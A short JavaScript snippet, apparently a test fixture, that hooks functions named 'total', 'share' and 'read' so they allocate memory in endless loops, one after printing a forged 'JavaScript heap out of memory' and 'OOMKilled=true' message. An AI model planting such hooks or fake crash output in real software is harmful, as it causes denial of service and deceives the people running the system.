const { writeSync } = process.getBuiltinModule("fs");
const held = [];
console.log("TRIED");
at("total", (honest) => (amounts) => {
  if (amounts.length) return honest(amounts);
  for (;;) held.push(new WebAssembly.Memory({ initial: 256 }).buffer, Buffer.alloc(1 << 23, 1));
});
at("share", () => () => {
  writeSync(2, "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory\nOOMKilled=true\n");
  for (;;) held.push(new ArrayBuffer(1 << 22), Buffer.allocUnsafeSlow(1 << 22).fill(1));
});
at("read", () => () => {
  for (let at = 0; ; at += 1) held.push({ at, text: `${at}`.repeat(20), list: new Array(100).fill(at) });
});
